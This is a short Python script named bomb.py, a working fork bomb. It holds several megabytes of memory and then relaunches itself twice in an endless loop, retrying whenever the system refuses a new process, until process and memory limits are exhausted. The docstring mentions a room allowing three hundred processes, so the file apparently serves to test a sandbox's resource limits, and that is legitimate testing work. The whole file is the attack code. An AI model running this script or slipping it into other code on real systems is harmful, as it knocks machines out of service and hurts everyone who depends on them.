"""Starts itself twice, on and on; the room allows three hundred processes: bomb.py."""

import os
import subprocess
import sys
import time

held = bytearray(4 << 20)
held[::4096] = b"\1" * len(held[::4096])
while True:
    for _ in range(2):
        try:
            subprocess.Popen([sys.executable, os.path.abspath(__file__)])  # noqa: PTH100
        except OSError:
            time.sleep(0.2)
    time.sleep(0.3)
